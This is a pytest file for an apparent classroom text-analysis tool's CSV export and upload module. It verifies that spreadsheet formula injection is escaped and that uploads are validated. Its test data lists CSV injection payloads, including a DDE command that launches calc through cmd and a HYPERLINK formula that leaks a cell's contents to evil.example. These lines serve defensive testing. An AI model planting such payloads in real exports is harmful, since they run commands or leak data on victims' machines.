"""CSV in and out: formula injection neutralised, uploads checked, batch tables."""

import io

import numpy as np
import pandas as pd
import pytest

from attnviz.classroom import export

# OWASP CSV injection: every way a cell can start a formula (or a DDE command).
FORMULAS = {
    "equals": "=1+1",
    "plus": "+cmd",
    "minus": "-2 awful plot",
    "at": "@SUM(A1)",
    "pipe_dde": "|calc",
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "leading_space": " =1+1",
    "leading_spaces_and_tab": "  \t=1+1",
    "leading_newline": "\n=2+2",
    "leading_crlf": "\r\n+3",
    "tab": "\tx",
    "carriage_return": "\rx",
    "full_width_equals": "\uff1dSUM(A1)",
    "full_width_plus": "\uff0b1",
    "full_width_minus": "\uff0d1",
    "full_width_at": "\uff20SUM(A1)",
    "full_width_pipe": "\uff5ccalc",
    "small_equals": "\ufe661+1",
    "zero_width_space": "\u200b=1+1",
    "nul_first": "\x00=1+1",
    "nul_only_first": "\x00hello",
}
SAFE = ["fine = ok", "a plain review", "  indented text", "caf\u00e9 \u4f60\u597d", ""]


def spreadsheet_would_run(cell):
    """Independent of export.is_formula: what Excel/LibreOffice treat as a formula start."""
    import unicodedata

    if cell[:1] in ("\t", "\r", "\n", "\x00"):
        return True
    visible = [c for c in cell if not c.isspace() and unicodedata.category(c) not in ("Cc", "Cf")]
    return bool(visible) and unicodedata.normalize("NFKC", visible[0])[0] in "=+-@|"


def exported_cells(frame):
    """Every cell of the CSV that `to_csv_bytes(frame)` writes, read back from the bytes."""
    import csv

    data = export.to_csv_bytes(frame)
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("name", sorted(FORMULAS))
def test_each_formula_payload_is_text_in_the_exported_file(name):
    payload = FORMULAS[name]
    assert spreadsheet_would_run(payload)  # the payload is a real threat
    header, row = exported_cells(pd.DataFrame({"text": [payload], "id": ["7"]}))
    assert header == ["text", "id"]
    cleaned = payload.replace("\x00", "")  # NUL is dropped; the rest is kept
    assert row[0] == ("'" + cleaned if spreadsheet_would_run(cleaned) else cleaned)
    assert not spreadsheet_would_run(row[0])
    assert row[1] == "7"


def test_safe_text_and_numbers_are_exported_unchanged():
    frame = pd.DataFrame({"text": SAFE, "n": [-1.5, 2.0, 3.0, 0.0, -7.25]})
    header, *rows = exported_cells(frame)
    assert [r[0] for r in rows] == SAFE
    assert [r[1] for r in rows] == ["-1.5", "2.0", "3.0", "0.0", "-7.25"]  # numbers stay


def test_column_names_are_neutralised_and_the_input_frame_is_not_changed():
    frame = pd.DataFrame({"=HYPERLINK(1)": ["=cmd|' /C calc'!A0", "plain", "@x"]})
    header, *rows = exported_cells(frame)
    assert header == ["'=HYPERLINK(1)"]
    assert [r[0] for r in rows] == ["'=cmd|' /C calc'!A0", "plain", "'@x"]
    assert frame.iloc[0, 0] == "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("data", "delimiter"),
    [
        (b'id,text,stars\n1,"Great, really; fine",5\n2,bad,1\n', ","),
        (b"id;text;stars\n1;Great, really, truly;5\n2;bad, awful;1\n", ";"),
        (b"id\ttext\tstars\n1\tGreat, really; fine\t5\n2\tbad\t1\n", "\t"),
        (b"text\nGreat, really\n", ","),  # one column: commas are text
    ],
    ids=["comma", "semicolon", "tab", "single_column"],
)
def test_the_delimiter_is_sniffed(data, delimiter):
    frame = export.read_csv_upload(data)
    assert frame.attrs["delimiter"] == delimiter
    if delimiter != "," or frame.shape[1] > 1:
        assert list(frame.columns) == ["id", "text", "stars"]
        assert frame["stars"].tolist() == ["5", "1"]
        assert frame["text"].iloc[0].startswith("Great, really")


def test_read_csv_upload():
    frame = export.read_csv_upload('\ufefftext,id\n"a, b",1\n'.encode())
    assert list(frame.columns) == ["text", "id"]
    assert frame.iloc[0, 0] == "a, b"


def test_a_very_wide_file_is_refused_from_its_header():
    columns = 400_000
    data = (
        ",".join(f"c{i}" for i in range(columns)) + "\n" + "x," * (columns - 1) + "x\n"
    ).encode()
    with pytest.raises(export.TableError, match="400,000 columns") as caught:
        export.read_csv_upload(data)
    assert caught.value.key == "csv.too_many_columns"
    assert caught.value.fields == {"count": columns, "limit": export.MAX_COLUMNS}


def test_a_huge_cell_is_refused_naming_row_and_column():
    data = ("id,text\n1,short\n2," + "x" * (export.MAX_CELL_CHARS + 1) + "\n").encode()
    with pytest.raises(export.TableError) as caught:
        export.read_csv_upload(data)
    assert caught.value.key == "csv.cell_too_long"
    assert caught.value.fields["row"] == 2 and caught.value.fields["column"] == "text"


@pytest.mark.parametrize(
    ("data", "key", "message"),
    [
        (b"", "csv.empty", "empty"),
        (b"  \n ", "csv.empty", "empty"),
        (b"text\n", "csv.no_rows", "no rows"),
        ("text\ncaf\u00e9\n".encode("latin-1"), "csv.not_utf8", "not UTF-8"),
        (b"a\n" + b"x" * 200, "csv.too_large", "limit"),
    ],
)
def test_read_csv_upload_errors(data, key, message):
    from attnviz.i18n import t

    with pytest.raises(export.TableError, match=message) as caught:
        export.read_csv_upload(data, max_bytes=100)
    assert caught.value.key == key
    assert t(key, "zh", **caught.value.fields) != str(caught.value)  # translated


def test_split_lines_and_has_letters():
    assert export.split_lines(" a \n\n  \nb\r\n") == ["a", "b"]
    assert export.split_lines(None) == []
    assert not export.has_letters(["1", "2.5", "-"])
    assert export.has_letters(["1", "caf\u00e9"])


def test_top_words():
    assert export.top_words(["a", "b", "c", "d"], [0.1, 0.4, 0.2, 0.3]) == ["b", "d", "c"]


class FakeSentiment:
    """Stands in for SentimentModel: weight grows with token position."""

    def encode(self, text):
        from attnviz.models.text import tokenize

        tokens = tokenize(text)
        return tokens, [2] * len(tokens.words)

    def forward(self, sequences):
        longest = max(len(s) for s in sequences)
        weights = np.zeros((len(sequences), longest))
        for row, ids in enumerate(sequences):
            weights[row, : len(ids)] = np.arange(1, len(ids) + 1) / sum(range(1, len(ids) + 1))
        return np.array([0.2 + 0.1 * len(s) for s in sequences]), weights


def test_sentiment_batch_table_keeps_order_and_own_words():
    texts = ["One Two Three Four", "!!!", "Hi"]
    table = export.sentiment_batch_table(FakeSentiment(), texts)
    assert list(table["text"]) == texts
    assert list(table["label"]) == ["positive", "", "negative"]  # 0.6 and 0.3
    assert table["probability"].iloc[0] == pytest.approx(0.6)
    assert np.isnan(table["probability"].iloc[1])
    assert list(table["top_words"]) == ["Four, Three, Two", "", "Hi"]


def test_explanation_table_uses_the_users_words():
    from attnviz.models.sentiment import Explanation

    text = "Great FILM!"
    explanation = Explanation(
        text=text,
        tokens=["great", "film"],
        spans=[(0, 5), (6, 10)],
        weights=np.array([0.25, 0.75]),
        oov=[False, True],
        probability=0.9,
        label="positive",
        truncated=False,
    )
    table = export.explanation_table(explanation)
    assert list(table["word"]) == ["Great", "FILM"]
    assert list(table["in_vocabulary"]) == [True, False]
    assert list(table["weight"]) == [0.25, 0.75]


def test_to_json_bytes_handles_numpy_and_unicode():
    data = export.to_json_bytes({"w": np.array([0.5, 0.25]), "n": np.int64(3), "t": "好 <b>"})
    import json

    assert json.loads(data) == {"w": [0.5, 0.25], "n": 3, "t": "好 <b>"}
    with pytest.raises(TypeError):
        export.to_json_bytes({"x": object()})


def test_alignment_table_is_long_form():
    from types import SimpleNamespace

    result = SimpleNamespace(
        input_chars=["a", "b"], output_chars=["1"], alignment=np.array([[0.25, 0.75]])
    )
    table = export.alignment_table(result)
    assert list(table.columns) == [
        "output_step", "output_char", "input_position", "input_char", "weight"
    ]  # fmt: skip
    assert table["weight"].tolist() == [0.25, 0.75]
